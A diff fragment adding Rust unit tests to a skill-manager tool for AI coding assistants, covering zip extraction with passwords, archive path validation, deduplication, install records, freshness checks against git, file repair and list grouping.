+        zip.write_all(b"# Demo\n").unwrap();
+        zip.finish().unwrap();
+
+        let wrong = temp.path().join("wrong");
+        let err = extract_zip(&archive_path, &wrong, Some("guess")).unwrap_err();
+        assert!(format!("{err:#}").contains("wrong password"), "{err:#}");
+
+        let right = temp.path().join("right");
+        extract_zip(&archive_path, &right, Some("s3cret")).unwrap();
+        assert_eq!(
+            fs::read_to_string(right.join("demo/SKILL.md")).unwrap(),
+            "# Demo\n"
+        );
+    }
+
+    #[test]
+    fn entry_path_problems_report_case_collisions_and_long_paths() {
+        let entry = |path: &str, kind: &'static str| ArchiveEntry {
+            path: path.to_string(),
+            kind,
+            size: 0,
+            encrypted: false,
+            problem: None,
+        };
+        let long = format!("demo/{}.md", "a".repeat(MAX_ENTRY_PATH_CHARS));
+        let problems = entry_path_problems(&[
+            entry("demo/", "dir"),
+            entry("Demo/", "dir"),
+            entry("demo/README.md", "file"),
+            entry("./demo/README.md", "file"),
+            entry("demo/readme.md", "file"),
+            entry(&long, "file"),
+        ]);
+        assert_eq!(problems.len(), 2, "{problems:?}");
+        assert_eq!(
+            problems[0],
+            "demo/README.md and demo/readme.md collide on case-insensitive filesystems"
+        );
+        assert!(problems[1].starts_with(&long), "{problems:?}");
+    }
+
+    #[test]
+    fn batch_toggles_accept_numbers_and_ranges() {
+        assert_eq!(parse_toggles("2", 4), Ok(vec![1]));
+        assert_eq!(parse_toggles("1, 3-4", 4), Ok(vec![0, 2, 3]));
+        assert!(parse_toggles("5", 4).is_err());
+        assert!(parse_toggles("3-2", 4).is_err());
+        assert!(parse_toggles("all", 4).is_err());
+        assert_eq!(keep_chosen(vec!["a", "b", "c"], &[0, 2]), vec!["a", "c"]);
+    }
+
+    #[test]
+    fn dedupe_matches_merges_only_identical_copies() {
+        let temp = tempdir().expect("temp dir");
+        let found = |assistant: Assistant, dir: &str| {
+            let path = write_skill(&temp.path().join(dir), "test-skill");
+            SearchMatch {
+                assistants: vec![assistant],
+                name: "test-skill".to_string(),
+                description: "test".to_string(),
+                paths: vec![path],
+            }
+        };
+        let codex = found(Assistant::Codex, "codex");
+        let claude = found(Assistant::ClaudeCode, "claudecode");
+        let opencode = found(Assistant::OpenCode, "opencode");
+        fs::write(opencode.paths[0].join("extra.md"), "local note").expect("write");
+
+        let merged = dedupe_matches(vec![codex, opencode, claude]).expect("dedupe");
+        assert_eq!(merged.len(), 2);
+        assert_eq!(merged[0].assistant_list(","), "codex,claudecode");
+        assert_eq!(merged[0].paths.len(), 2);
+        assert_eq!(merged[1].assistant_list(","), "opencode");
+    }
+
+    #[test]
+    fn add_summary_json_has_stable_keys() {
+        let summary = AddSummary {
+            name: "pdf".to_string(),
+            assistant: Assistant::ClaudeCode,
+            scope: "user",
+            path: PathBuf::from("/skills/pdf"),
+            files: 3,
+            size: 2048,
+            warnings: 1,
+            source: "https://example.com/pdf.zip".to_string(),
+            commit: None,
+            resolved_url: None,
+            provenance: "abc123".to_string(),
+        };
+        let value = serde_json::to_value(&summary).expect("serialize summary");
+        assert_eq!(value["assistant"], "claudecode");
+        assert_eq!(value["files"], 3);
+        assert_eq!(value["provenance"], "abc123");
+        assert!(value.get("commit").is_none());
+    }
+
+    #[test]
+    fn list_long_details_come_from_the_install_record() {
+        assert_eq!(
+            short_digest("sha256:0123456789abcdef"),
+            "sha256:0123456789ab"
+        );
+        assert_eq!(short_digest("tree-sha256:abc"), "tree-sha256:abc");
+        let record = InstallRecord {
+            source: "https://example.com/pdf.zip".to_string(),
+            skill: None,
+            reference: None,
+            commit: None,
+            installed_at: "2026-03-04T05:06:07Z".parse().expect("timestamp"),
+            updated_at: None,
+            source_digest: Some("sha256:0123456789abcdef".to_string()),
+            resolved_url: None,
+            web_url: None,
+            version: None,
+            files: BTreeMap::new(),
+        };
+        assert_eq!(
+            install_details(Some(&record)),
+            "installed 2026-03-04  sha256:0123456789ab  https://example.com/pdf.zip"
+        );
+        assert_eq!(install_details(None), "(no install record)");
+    }
+
+    #[test]
+    fn outdated_compares_recorded_commits_and_digests_with_the_source() {
+        let temp = tempdir().unwrap();
+        let repo = temp.path().join("skills.git");
+        let skill_dir = write_skill(&repo, "test-skill");
+        let git = |args: &[&str]| {
+            let output = Command::new("git")
+                .arg("-C")
+                .arg(&repo)
+                .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+                .args(["-c", "commit.gpgsign=false"])
+                .args(args)
+                .output()
+                .expect("run git");
+            assert!(output.status.success());
+            String::from_utf8_lossy(&output.stdout).trim().to_string()
+        };
+        git(&["init", "--quiet"]);
+        git(&["add", "."]);
+        git(&["commit", "--quiet", "-m", "init"]);
+        let first = git(&["rev-parse", "HEAD"]);
+
+        let mut record = InstallRecord {
+            source: format!("file://{}", repo.display()),
+            skill: Some("test-skill".to_string()),
+            reference: None,
+            commit: Some(first.clone()),
+            installed_at: Utc::now(),
+            updated_at: None,
+            source_digest: None,
+            resolved_url: None,
+            web_url: None,
+            version: None,
+            files: BTreeMap::new(),
+        };
+        let options = SourceOptions::default();
+        let check = |record: &InstallRecord| {
+            check_freshness(record, Assistant::Codex, &options).expect("check")
+        };
+        assert!(matches!(check(&record), Freshness::Current));
+
+        fs::write(skill_dir.join("notes.md"), "more").unwrap();
+        git(&["add", "."]);
+        git(&["commit", "--quiet", "-m", "notes"]);
+        let second = git(&["rev-parse", "HEAD"]);
+        assert!(matches!(check(&record), Freshness::Behind(latest) if latest == second));
+        record.reference = Some(first);
+        assert!(matches!(check(&record), Freshness::Pinned));
+
+        // A local directory source is compared by the digest of the skill's files.
+        let files = skill_hashes_for(&skill_dir, Assistant::Codex).unwrap();
+        record.source = repo.display().to_string();
+        record.reference = None;
+        record.source_digest = Some(manifest::tree_digest(&files));
+        assert!(matches!(check(&record), Freshness::Current));
+        fs::write(skill_dir.join("notes.md"), "changed").unwrap();
+        assert!(matches!(check(&record), Freshness::Behind(_)));
+    }
+
+    #[test]
+    fn verify_repair_restores_files_that_still_match_the_install_record() {
+        let temp = tempdir().unwrap();
+        let source = write_skill(temp.path(), "test-skill");
+        fs::write(source.join("notes.md"), "notes").unwrap();
+        fs::create_dir_all(source.join("scripts")).unwrap();
+        fs::write(source.join("scripts/run.sh"), "echo hi").unwrap();
+        let installed = temp.path().join("installed");
+        copy_dir_filtered(&source, &installed).unwrap();
+        let record = InstallRecord {
+            source: source.display().to_string(),
+            skill: None,
+            reference: None,
+            commit: None,
+            installed_at: Utc::now(),
+            updated_at: None,
+            source_digest: None,
+            resolved_url: None,
+            web_url: None,
+            version: None,
+            files: manifest::hash_dir(&installed).unwrap(),
+        };
+
+        fs::write(installed.join("notes.md"), "edited").unwrap();
+        fs::remove_dir_all(installed.join("scripts")).unwrap();
+        fs::write(installed.join("SKILL.md"), "edited").unwrap();
+        fs::write(installed.join("extra.md"), "mine").unwrap();
+        // The source moved on for SKILL.md, so it has no pristine copy of it.
+        fs::write(
+            source.join("SKILL.md"),
+            "---\nname: test-skill\ndescription: newer\n---\n",
+        )
+        .unwrap();
+
+        let changes = manifest::changes(&record.files, &manifest::hash_dir(&installed).unwrap());
+        let repair = repair_files(
+            &installed,
+            &record,
+            Assistant::Codex,
+            &changes,
+            &SourceOptions::default(),
+        )
+        .unwrap();
+        assert_eq!(repair.restored, ["notes.md", "scripts/run.sh"]);
+        assert_eq!(repair.unrestorable, ["SKILL.md"]);
+        assert_eq!(repair.sources, ["source"]);
+        assert_eq!(
+            fs::read_to_string(installed.join("notes.md")).unwrap(),
+            "notes"
+        );
+        assert_eq!(
+            fs::read_to_string(installed.join("scripts/run.sh")).unwrap(),
+            "echo hi"
+        );
+        assert_eq!(
+            fs::read_to_string(installed.join("extra.md")).unwrap(),
+            "mine"
+        );
+    }
+
+    #[test]
+    fn list_group_by_sections_skills_by_namespace_category_or_tag() {
+        let row = |name: &str, category: Option<&str>, tags: &[&str]| ListRow {
+            name: name.to_string(),
+            label: name.to_string(),
+            category: category.map(str::to_string),
+            tags: tags.iter().map(|tag| tag.to_string()).collect(),
+            size: 10,
+            details: String::new(),
+        };
+        let rows = vec![
+            row("data-clean", Some("Data"), &["csv", "etl"]),
+            row("data-plot", Some("data"), &["csv"]),
+            row("notes", None, &[]),
+        ];
+        let sections = |group_by| {
+            group_rows(&rows, group_by)
+                .into_iter()
+                .map(|(group, rows)| {
+                    let names: Vec<&str> = rows.iter().map(|row| row.name.as_str()).collect();
+                    (group, names)
+                })
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            sections(GroupBy::Namespace),
+            [
+                ("(no namespace)".to_string(), vec!["notes"]),
+                ("data".to_string(), vec!["data-clean", "data-plot"]),
+            ]
+        );
+        assert_eq!(
+            sections(GroupBy::Category),
+            [
+                ("(uncategorized)".to_string(), vec!["notes"]),
+                ("data".to_string(), vec!["data-clean", "data-plot"]),
+            ]
+        );
+        assert_eq!(
+            sections(GroupBy::Tag),
+            [
+                ("(untagged)".to_string(), vec!["notes"]),
+                ("csv".to_string(), vec!["data-clean", "data-plot"]),
+                ("etl".to_string(), vec!["data-clean"]),
+            ]
+        );
+    }
 }